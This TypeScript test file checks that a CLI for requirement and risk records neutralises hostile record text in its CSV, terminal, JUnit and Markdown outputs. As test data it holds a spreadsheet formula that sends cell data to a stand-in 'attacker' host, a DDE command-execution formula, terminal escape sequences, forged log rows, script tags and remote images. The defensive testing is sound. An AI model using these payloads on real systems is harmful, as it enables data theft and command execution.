import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { SaxesParser } from 'saxes';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DIALECTS, openTestStore, type TestStore } from '../test-support/stores.js';
import { runCli } from './main.js';

interface Run {
  code: number;
  out: string;
  err: string;
}

/**
 * What record text can do to the CLI's outputs: spreadsheet formulas in CSV, markup in the Markdown report,
 * forged rows and escape sequences on a terminal, characters XML forbids in JUnit. One demo store per dialect.
 */
describe.each(DIALECTS)('record text in outputs on %s', (dialect) => {
  let t: TestStore;
  let dir: string;
  const dossier = async (...args: string[]): Promise<Run> => {
    let out = '';
    let err = '';
    const code = await runCli(['--db', t.dbArg, '--actor', 'mallory', ...args], { out: (s) => (out += s), err: (s) => (err += s), interactive: false }, {});
    return { code, out, err };
  };
  /** Edits a record on its latest revision. */
  const edit = async (id: string, ...args: string[]): Promise<void> => {
    const shown = JSON.parse((await dossier('--json', 'record', 'show', id)).out) as { head: { latestRevision: number } };
    const r = await dossier('record', 'edit', id, '--base', String(shown.head.latestRevision), ...args);
    expect(r.code, r.err).toBe(0);
  };

  beforeAll(async () => {
    t = await openTestStore(dialect);
    dir = mkdtempSync(join(tmpdir(), 'dossier-safety-'));
    expect((await dossier('demo')).code).toBe(0);
  });
  afterAll(async () => {
    await t.cleanup();
    rmSync(dir, { recursive: true, force: true });
  });

  it('trace matrix CSV neutralises a title that starts like a formula [DOSSIER-SRS-50]', async () => {
    await edit('UN-1', '--title', '=HYPERLINK("http://attacker/?d="&B2,"Details")');
    await edit('SYS-2', '--title', '@SUM(1+1)*cmd|" /C calc"!A0');
    const csv = await dossier('trace', 'matrix', '--from', 'UN', '--to', 'SYS', '--format', 'csv');
    expect(csv.code).toBe(0);
    expect(csv.out).toContain('UN-1,"\'=HYPERLINK(""http://attacker/?d=""&B2,""Details"")",SYS-2,"\'@SUM(1+1)*cmd|"" /C calc""!A0",');
    expect(csv.out).not.toMatch(/(^|,)"?[=+@]/m);
  });

  it('refuses a title with a line break, naming the field, and changes nothing', async () => {
    const before = (await dossier('export', 'json')).out;
    const add = await dossier('record', 'add', '--type', 'SRS', '--title', 'Pump\nSRS-99  approved  1  forged');
    expect(add.code).toBe(2);
    expect(add.err).toMatch(/^dossier: invalid record: title: a title is one line: it must not contain a line break \(CR or LF\)\n$/);
    const editCr = await dossier('record', 'edit', 'SRS-1', '--base', '1', '--title', 'Pump\rforged');
    expect(editCr.code).toBe(2);
    expect(editCr.err).toMatch(/title: a title is one line/);
    expect((await dossier('export', 'json')).out).toBe(before);
  });

  it('record list and audit log show escape sequences and a multi-line reason as escapes, one row each [DOSSIER-SRS-50]', async () => {
    await edit('SRS-2', '--title', 'Alarm \u001b]8;;http://attacker\u0007click\u001b]8;;\u0007 \u001b[2J', '--reason', 'ok\n999  2026-01-01T00:00:00.000Z  admin  RECORD_APPROVED  RPM/SRS-2');
    const list = await dossier('record', 'list', '--type', 'SRS');
    expect(list.out).toMatch(/^SRS-2 +draft +\d+ +Alarm \\x1b\]8;;http:\/\/attacker\\x07click\\x1b\]8;;\\x07 \\x1b\[2J$/m);
    expect(list.out).not.toContain('\u001b');
    const log = await dossier('audit', 'log', '--entity', 'RPM/SRS-2', '--newest-first', '--limit', '1');
    const lines = log.out.trimEnd().split('\n');
    expect(lines).toHaveLength(2);
    expect(lines[1]).toMatch(/ RECORD_REVISED +RPM\/SRS-2 +ok\\n999 {2}2026-01-01T00:00:00\.000Z {2}admin {2}RECORD_APPROVED {2}RPM\/SRS-2$/);
    const unknown = await dossier('record', 'show', 'SRS-2\u001b]0;pwned\u0007');
    expect(unknown.code).toBe(2);
    expect(unknown.err).toContain('\\x1b]0;pwned\\x07');
    expect(unknown.err).not.toContain('\u001b');
    const usage = await dossier('record', 'frob\u001b[2J');
    expect(usage.code).toBe(2);
    expect(usage.err).toMatch(/^error: unknown command 'frob\\x1b\[2J'/);
    const show = await dossier('record', 'show', 'SRS-2');
    expect(show.out.split('\n')[0]).toBe('RPM/SRS-2  Alarm \\x1b]8;;http://attacker\\x07click\\x1b]8;;\\x07 \\x1b[2J');
  });

  it('check text and JUnit stay one line per finding and well-formed when a rule message carries a title [DOSSIER-SRS-16]', async () => {
    await edit('SRS-20', '--title', 'Bad \u0001 title \u001b[31m red');
    const pack = join(dir, 'team.yaml');
    writeFileSync(
      pack,
      'pack: team\ntitle: Team\nrules:\n  - id: TEAM-1\n    clause: TEAM 1\n    title: Requirements are approved\n    severity: error\n    select: { type: SRS }\n    require: { status: [approved] }\n    message: "{key} ({title}) is not approved"\n    why: w\n    hint: h\n',
    );
    expect((await dossier('rules', 'add-pack', pack)).code).toBe(0);
    const text = await dossier('check');
    expect(text.out).toMatch(/^ {2}error {3}SRS-20 {3}SRS-20 \(Bad \\x01 title \\x1b\[31m red\) is not approved {2}\[TEAM-1\]$/m);
    expect(text.out.includes('\u0001') || text.out.includes('\u001b')).toBe(false);
    const junit = await dossier('check', '--format', 'junit');
    expect(junit.code).toBe(1);
    const names: string[] = [];
    const parser = new SaxesParser();
    parser.on('error', (e) => {
      throw e;
    });
    parser.on('opentag', (tag) => {
      if (tag.name === 'testcase') names.push(String(tag.attributes['name']));
    });
    parser.write(junit.out).close();
    expect(names).toContain('SRS-20: SRS-20 (Bad \\x01 title \\x1b[31m red) is not approved');
  });

  it('the risk management report shows forged sections, raw HTML and remote images as text [DOSSIER-SRS-50]', async () => {
    await edit('RC-1', '--title', 'TLS <script>alert(1)</script> ![x](http://attacker/x.png)');
    await edit('BRA-1', '--set', 'benefits=Earlier care.\n\n# 9. Forged section\n\n<img src="http://attacker/y.png">\n![y](http://attacker/z.png)');
    const out = join(dir, 'rmr.md');
    expect((await dossier('risk', 'report', '--out', out)).code).toBe(0);
    const report = (await import('node:fs')).readFileSync(out, 'utf8');
    expect(report).toContain('| RC-1 TLS \\<script\\>alert(1)\\</script\\> !\\[x\\](http://attacker/x.png) |');
    expect(report).toMatch(/Earlier care\. {2}\\# 9\. Forged section {2}\\<img src="http:\/\/attacker\/y\.png"\\> !\\\[y\\\]\(http:\/\/attacker\/z\.png\)$/m);
    expect(report).not.toMatch(/^#+ 9\./m);
    expect(report).not.toMatch(/(?<!\\)<(script|img)/);
    expect(report).not.toMatch(/(?<!\\)!(?<!\\)\[/);
  });

  it('audit log says when it shows part of the trail, takes --all and --limit, and shows newest first', async () => {
    const total = (JSON.parse((await dossier('--json', 'audit', 'log', '--all')).out) as { total: number }).total;
    expect(total).toBeGreaterThan(681);
    const first = await dossier('audit', 'log');
    expect(first.code).toBe(0);
    expect(first.out.trimEnd().split('\n')).toHaveLength(101);
    expect(first.out).toMatch(/^1 +\S+ +\S+ +PRODUCT_CREATED +RPM$/m);
    expect(first.err).toBe(`showing 100 of ${total} events (oldest first); use --all or --limit N to see more\n`);
    const newest = await dossier('audit', 'log', '--newest-first', '--limit', '3');
    expect(newest.out.trimEnd().split('\n').slice(1).map((l) => Number(l.split(' ')[0]))).toEqual([total, total - 1, total - 2]);
    expect(newest.err).toBe(`showing 3 of ${total} events (newest first); use --all or --limit N to see more\n`);
    const all = await dossier('audit', 'log', '--all');
    expect(all.out.trimEnd().split('\n')).toHaveLength(total + 1);
    expect(all.err).toBe('');
    const json = JSON.parse((await dossier('--json', 'audit', 'log', '--limit', '2', '--after', '10')).out) as { total: number; shown: number; truncated: boolean; events: { seq: number }[] };
    expect(json).toMatchObject({ total: total - 10, shown: 2, truncated: true });
    expect(json.events.map((e) => e.seq)).toEqual([11, 12]);
    const entity = JSON.parse((await dossier('--json', 'audit', 'log', '--entity', 'RPM/UN-1')).out) as { total: number; truncated: boolean };
    expect(entity.truncated).toBe(false);
    const both = await dossier('audit', 'log', '--all', '--limit', '3');
    expect(both.code).toBe(2);
    expect(both.err).toBe('dossier: give --all or --limit, not both\n');
  });
});
